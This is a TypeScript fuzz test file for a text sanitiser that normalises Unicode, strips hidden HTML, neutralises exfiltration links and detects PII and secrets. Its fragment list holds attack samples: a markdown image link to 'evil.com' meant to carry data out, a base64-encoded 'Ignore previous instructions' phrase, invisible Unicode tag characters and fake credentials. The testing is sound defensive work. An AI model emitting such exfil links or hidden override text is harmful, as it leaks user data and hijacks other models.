import fc from 'fast-check';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { detectPii } from '../../src/inbound/detect/pii.js';
import { redactSpans } from '../../src/inbound/detect/redact.js';
import { detectSecrets } from '../../src/inbound/detect/secrets.js';
import { foldConfusables, neutraliseExfilLinks, normalise } from '../../src/inbound/normalize/index.js';
import type { Finding } from '../../src/inbound/types.js';

/** Fragments that exercise every normaliser, to be mixed with random text. */
const FRAGMENTS = [
  '\u200b',
  '\u202e',
  '\ufe0f\ufe0f\ufe0f',
  '\u{E0041}\u{E0042}',
  '\udb40',
  '\udc41',
  '\ud800',
  '<!-- ',
  ' -->',
  '<div style="display:none">',
  '</div>',
  '<span style="color:#fff;background:#fff">',
  '<p hidden>',
  '<script>',
  '```',
  '`',
  '![x](https://evil.com/p?d=',
  ')',
  '[a]: https://e.com/',
  'SWdub3JlIHByZXZpb3VzIGluc3RydWN0aW9ucw==',
  '%41%42%43%44',
  '\\x41\\x42\\x43\\x44',
  '\\u0041\\u0042\\u0043\\u0044',
  '{"a":"\\u200b\\udb40\\udc41"}',
  '[',
  ']',
  '{',
  '"',
  '\u0456',
  'ｉ',
  'AKIAIOSFODNN7EXAMPLX',
  'password=',
  '-----BEGIN RSA PRIVATE KEY-----\n',
  'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.',
  '4111 1111 1111 1111',
  'GB82 WEST 1234 5698 7654 32',
  '+1 (415) 555-2671',
  'a@b.co',
  '192.0.2.1',
  'fe80::1:2:3:4',
  'ftp://u:p4ssw0rdX@h',
];

const mixed = fc
  .array(fc.oneof(fc.string({ unit: 'binary', maxLength: 20 }), fc.constantFrom(...FRAGMENTS)), {
    maxLength: 40,
  })
  .map((parts) => parts.join(''));

function isWithin(text: string, f: Finding): boolean {
  return (
    Number.isInteger(f.span.start) &&
    f.span.start >= 0 &&
    f.span.start <= f.span.end &&
    f.span.end <= text.length
  );
}

describe('never throws, and spans stay in bounds', () => {
  it('normalise, the detectors and the redaction helpers on random strings with lone surrogates', () => {
    fc.assert(
      fc.property(fc.oneof(mixed, fc.string({ unit: 'binary' }), fc.string({ unit: 'grapheme' })), (text) => {
        const n = normalise(text, { allowHosts: ['e.com'] });
        expect(n.findings.every((f) => isWithin(text, f))).toBe(true);
        for (const t of [n.text, ...n.scanTexts]) {
          const found = [...detectPii(t), ...detectSecrets(t)];
          expect(found.every((f) => isWithin(t, f))).toBe(true);
          expect(found.some((f) => f.kind === 'unscanned')).toBe(false);
          expect(typeof redactSpans(t, found)).toBe('string');
        }
        expect(n.findings.some((f) => f.kind === 'unscanned')).toBe(false);
        neutraliseExfilLinks(text);
        foldConfusables(text);
        normalise(text, { html: 'visible_text' });
      }),
      { numRuns: 400, seed: 20240501 },
    );
  });

  it('handles large adversarial inputs in bounded time', () => {
    const inputs = [
      '![a]('.repeat(20_000),
      '[['.repeat(30_000),
      '<div style="display:none">'.repeat(5_000),
      '%41'.repeat(100_000),
      '\u200b'.repeat(100_000),
      '\u{E0041}'.repeat(50_000),
      'A'.repeat(1 << 20),
      '1 '.repeat(100_000),
      'password='.repeat(20_000),
      'a@'.repeat(50_000),
      ':'.repeat(100_000),
      '1.1.1.1.'.repeat(20_000),
      '```\n'.repeat(20_000),
      `{"a":"${'\\u0041'.repeat(50_000)}"}`,
    ];
    for (const input of inputs) {
      const started = performance.now();
      const n = normalise(input);
      detectPii(n.text);
      detectSecrets(n.text);
      expect(performance.now() - started, input.slice(0, 20)).toBeLessThan(5_000);
    }
  });
});

describe('normalise on benign text', () => {
  it('passes ordinary source files and READMEs through without findings, bar a few images', () => {
    const files: string[] = [];
    collect(join(process.cwd(), 'node_modules'), files, /\.(?:js|md)$/, 150);
    const counts = new Map<string, number>();
    for (const file of files) {
      const text = readFileSync(file, 'utf8');
      const n = normalise(text);
      if (!text.includes('<') && !text.includes('](')) expect(n.text).toBe(text.normalize('NFKC'));
      for (const f of n.findings)
        counts.set(`${f.kind}:${f.type}`, (counts.get(`${f.kind}:${f.type}`) ?? 0) + 1);
    }
    // Images from hosts not on the (empty) allow-list, and HTML comments in READMEs, are expected.
    for (const key of counts.keys())
      expect(key).toMatch(/^(?:exfil_link:image|hidden_html:(?:comment|attribute)|invisible:zero_width)$/);
  });
});

function collect(dir: string, out: string[], pattern: RegExp, limit: number): void {
  let entries: string[];
  try {
    entries = readdirSync(dir).sort();
  } catch {
    return;
  }
  for (const entry of entries) {
    if (out.length >= limit) return;
    const path = join(dir, entry);
    const stat = statSync(path, { throwIfNoEntry: false });
    if (stat?.isDirectory() === true) collect(path, out, pattern, limit);
    else if (stat !== undefined && pattern.test(entry) && stat.size >= 1024 && stat.size <= 64 * 1024)
      out.push(path);
  }
}
